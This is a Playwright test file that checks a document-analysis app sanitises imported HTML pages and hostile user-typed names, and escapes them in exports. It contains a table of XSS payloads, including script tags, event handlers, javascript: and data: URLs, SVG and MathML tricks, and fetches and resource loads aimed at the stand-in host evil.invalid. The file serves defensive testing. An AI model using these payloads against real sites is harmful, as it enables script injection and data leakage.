// Imported material can never run code or reach the network, and names typed
// by the user are shown as text everywhere.
import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import { tagNewEntity } from './actions'
import { useFreshApp } from './freshApp'
import { REPO, SHARED } from './harness'

const SHOTS = join(REPO, 'test/artifacts')
const EVIL = 'http://evil.invalid'

/** One page per trick; each would set window.__pwned or fetch from EVIL if it ever ran. */
const PAYLOADS: Record<string, string> = {
  script: `<script>window.__pwned='script';fetch('${EVIL}/s')</script>`,
  'event handler': `<img src="x" onerror="window.__pwned='img'"><body onload="window.__pwned='body'"><div onmouseover="window.__pwned='hover'">hover me</div>`,
  'javascript url': `<a href="javascript:window.__pwned='js'">click</a><form action="javascript:window.__pwned='form'"><button>go</button></form>`,
  'data url': `<a href="data:text/html,<script>parent.__pwned='data'</script>">data link</a><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  svg: `<svg><script>window.__pwned='svg'</script><animate onbegin="window.__pwned='anim'" attributeName="x"/><a xlink:href="javascript:window.__pwned='svga'"><text>svg link</text></a></svg>`,
  mathml: `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='math'"></style></mglyph></table></mtext></math>`,
  embed: `<embed src="${EVIL}/e.swf" type="application/x-shockwave-flash">`,
  object: `<object data="${EVIL}/o.html" type="text/html"></object>`,
  'iframe srcdoc': `<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe><iframe src="${EVIL}/frame"></iframe>`,
  'css url': `<style>@import url(${EVIL}/i.css); p { background: url(${EVIL}/bg.png) }</style><p style="background-image:url(${EVIL}/inline.png)">styled</p>`,
  base: `<base href="${EVIL}/"><a href="relative">relative link</a><img src="relative.png">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  'remote image': `<img src="${EVIL}/pixel.gif" srcset="${EVIL}/a.png 2x"><picture><source srcset="${EVIL}/p.webp"></picture><video src="${EVIL}/v.mp4" poster="${EVIL}/poster.png"></video>`,
  'template and noscript': `<template><img src=x onerror="window.__pwned='tpl'"></template><noscript><img src="${EVIL}/ns.gif"></noscript>`
}

function page(name: string, payload: string): string {
  const prose = `<p>This is the ${name} test article. It carries prose so that Readability treats it as an article, with several sentences of ordinary text about a contract and an agency.</p>`
  return `<!doctype html><html><head><title>XSS ${name}</title>${payload}</head><body><article><h1>XSS ${name}</h1>${prose}${payload}<p>Closing paragraph for ${name}, again with enough words to look like the body of a real article.</p></article></body></html>`
}

const fresh = useFreshApp({ allowConsoleErrors: true })

test('XSS payloads in imported pages never run and never make a request', async () => {
  const { page: p, native } = fresh.app
  const files = Object.entries(PAYLOADS).map(([name, payload]) => {
    const file = join(fresh.data.dir, `xss-${name.replace(/\W+/g, '-')}.html`)
    writeFileSync(file, page(name, payload))
    return file
  })
  native.openAnswers.push(files)
  await p.keyboard.press('Control+o')
  await expect(p.getByRole('status').filter({ hasText: 'Import:' })).toContainText(`${files.length} imported`)
  for (const name of Object.keys(PAYLOADS)) {
    await p.getByRole('listbox', { name: 'Documents' }).getByRole('option', { name: new RegExp(`XSS ${name}`) }).click()
    await expect(p.locator('.doc-text')).toContainText(`This is the ${name} test article`)
    // Hover and click everything in the text, as a curious reader would.
    await p.locator('.doc-text').hover()
    await p.locator('.doc-text p').first().click()
    await p.keyboard.press('Escape')
    expect(await p.locator('.doc-text *').evaluateAll((els) => els.filter((e) => !['SPAN', 'P', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'LI', 'BLOCKQUOTE', 'PRE', 'DIV'].includes(e.tagName)).map((e) => e.tagName))).toEqual([])
    expect(await p.locator('.doc-text [style*="url"], .doc-text [href], .doc-text [src]').count()).toBe(0)
  }
  expect(await p.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined()
  await p.waitForTimeout(500) // give a delayed refresh or fetch its chance to show
  expect(await p.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined()
  expect(p.url()).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/index\.html$/)
})

test('names, notes and titles typed by the user are shown as text', async () => {
  const { page: p } = fresh.app
  const evilName = `<img src=x onerror="window.__pwned='name'">`
  await tagNewEntity(p, 'Scale AI', 'Company')
  // Rename through the popover: select other words and create an entity with a hostile name.
  await p.evaluate(() => window.scrollTo(0, 0))
  const { dragSelect } = await import('./actions')
  await dragSelect(p, 'Pentagon')
  const pop = p.getByRole('dialog', { name: 'Tag selection' })
  await pop.getByLabel('Entity name').fill(evilName)
  await pop.getByRole('radio', { name: 'Organization', exact: true }).click()
  await pop.getByLabel('Entity name').press('Enter')
  const list = p.getByRole('listbox', { name: 'Entity list' })
  await expect(list.getByRole('option', { name: evilName })).toBeVisible()
  await list.getByRole('option', { name: evilName }).click()
  await expect(p.getByRole('region', { name: `Entity ${evilName}` }).locator('h3')).toHaveText(evilName)
  await p.locator('.doc-text .hl', { hasText: 'Pentagon' }).first().click()
  await expect(p.getByRole('dialog', { name: 'Mention' })).toContainText(evilName)
  await p.keyboard.press('Escape')

  await p.getByRole('button', { name: 'Edit details' }).click()
  await p.getByRole('dialog', { name: 'Document details' }).getByLabel('Title').fill('<b>Bold</b> & <script>window.__pwned="title"</script>')
  await p.getByRole('dialog', { name: 'Document details' }).getByRole('button', { name: 'Save' }).click()
  await expect(p.getByRole('listbox', { name: 'Documents' }).getByRole('option').first()).toContainText('<b>Bold</b> & <script>')

  // Exports carry the name as escaped text.
  const graphml = join(fresh.data.dir, 'names.graphml')
  fresh.app.native.saveAnswers.push(graphml)
  await p.getByRole('button', { name: 'Export ▾' }).click()
  await p.getByRole('menuitem', { name: /GraphML/ }).click()
  await expect(p.getByRole('status').filter({ hasText: 'Exported' })).toBeVisible()
  const xml = readFileSync(graphml, 'utf8')
  expect(xml).toContain('&lt;img src=x onerror=')
  expect(xml).not.toContain('<img')

  await p.getByRole('tab', { name: 'Map' }).click()
  await expect(p.getByLabel('Relationship map')).toHaveAttribute('data-nodes', '2')
  await p.screenshot({ path: join(SHOTS, 'hostile-names.png') })
  expect(await p.locator('img, script:not([src])').count()).toBe(0)
  expect(await p.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined()
})

test('the whole corpus can be imported, read, mapped and exported offline', async () => {
  // Every corpus file, then the background suggestions of each: minutes on a loaded CI machine. Each phase is a
  // step, so a timeout says which one it was (one CI run timed out here without a trace; 4 local runs took 14–21 s).
  test.setTimeout(240_000)
  const { page: p, native } = fresh.app
  const corpus = join(SHARED, 'corpus')
  const files = ['html', 'pdf', 'docx'].flatMap((kind) =>
    readdirSync(join(corpus, kind)).map((f) => (kind === 'html' ? join(corpus, kind, f, 'source.html') : join(corpus, kind, f)))
  )
  await test.step('import every corpus file', async () => {
    native.openAnswers.push(files)
    await p.keyboard.press('Control+o')
    const report = p.getByRole('status').filter({ hasText: 'Import:' })
    await expect(report.locator('li')).toHaveCount(files.length, { timeout: 90_000 })
  })
  await test.step('open every document', async () => {
    const docs = p.getByRole('listbox', { name: 'Documents' }).getByRole('option')
    const n = await docs.count()
    expect(n).toBeGreaterThan(12)
    for (let i = 0; i < n; i++) {
      await docs.nth(i).click()
      await expect(p.locator('.doc-text .blk').first()).toBeVisible()
    }
  })
  await test.step('find and tag', async () => {
    await p.keyboard.press('Control+f')
    await p.getByLabel('Find in document').fill('the')
    await p.keyboard.press('Escape')
    await tagNewEntity(p, 'the', 'Organization')
  })
  await test.step('map and PNG export', async () => {
    await p.getByRole('tab', { name: 'Map' }).click()
    fresh.app.native.saveAnswers.push(join(fresh.data.dir, 'corpus-map.png'))
    await p.getByRole('button', { name: 'Export PNG…' }).first().click()
    await p.getByRole('dialog', { name: 'Export map as PNG' }).getByRole('button', { name: 'Export…' }).click()
    await expect(p.getByRole('status').filter({ hasText: 'Map exported to' })).toBeVisible()
  })
})
